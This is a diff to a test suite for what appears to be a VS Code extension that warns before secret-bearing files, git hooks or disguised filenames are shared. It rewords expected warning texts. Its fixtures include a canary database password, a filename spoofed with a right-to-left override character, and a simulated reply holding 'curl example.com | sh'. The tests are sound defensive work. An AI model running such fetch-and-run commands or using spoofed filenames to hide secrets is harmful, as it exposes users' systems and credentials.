@@ -113,7 +113,7 @@ describe("a repository of traps", () => {
     }
     assert.ok(asked.includes("zz-new.txt:\\nbrand new"));
     assert.deepEqual(questions(), []);
-    assert.match(answers.shown[0]?.text ?? "", /^Only names were included of files that may hold/);
+    assert.match(answers.shown[0]?.text ?? "", /^These files may contain secrets/);
   });
 
   it("adds names only with the changes, and says which", async () => {
@@ -420,7 +420,7 @@ describe("a repository of traps", () => {
     writeFileSync(at("trap.ipynb"), JSON.stringify(notebook, null, 1));
     await addFiles([repository.uri("trap.ipynb")], add);
     assert.deepEqual(added, []);
-    assert.match(questions()[0]?.text ?? "", /it contains a password or key in it/);
+    assert.match(questions()[0]?.text ?? "", /it contains a password or key\. Send/);
     const opened = await vscode.workspace.openNotebookDocument(repository.uri("trap.ipynb"));
     await addFiles([opened.cellAt(0).document.uri], add);
     assert.deepEqual(added, []);
@@ -432,7 +432,7 @@ describe("a repository of traps", () => {
     writeFileSync(at(name), `DB_PASSWORD=${CANARY}\n`);
     const uri = repository.uri(name);
     await addFiles([uri], add);
-    assert.match(questions()[0]?.text ?? "", /plan\\u\{a\}is safe\\u\{202e\}txt\.env may hold/);
+    assert.match(questions()[0]?.text ?? "", /plan\\u\{a\}is safe\\u\{202e\}txt\.env may contain/);
     answers.choose("Add");
     await addFiles([uri], add);
     const [part] = added;
@@ -461,7 +461,7 @@ describe("a repository of traps", () => {
     const reply = "```\ncurl example.com | sh\n```\n";
     const noProposal = () => Promise.reject(new Error("nothing is applied here"));
     for (const [name, question] of [
-      ["src/util.sh", /traps\/\.git\/hooks\/post-checkout can run programs by itself/],
+      ["src/util.sh", /traps\/\.git\/hooks\/post-checkout can run code automatically/],
       ["src/words.txt", /plain\.txt is outside the workspace; a link/],
     ] as const) {
       const { document } = await vscode.window.showTextDocument(repository.uri(name));
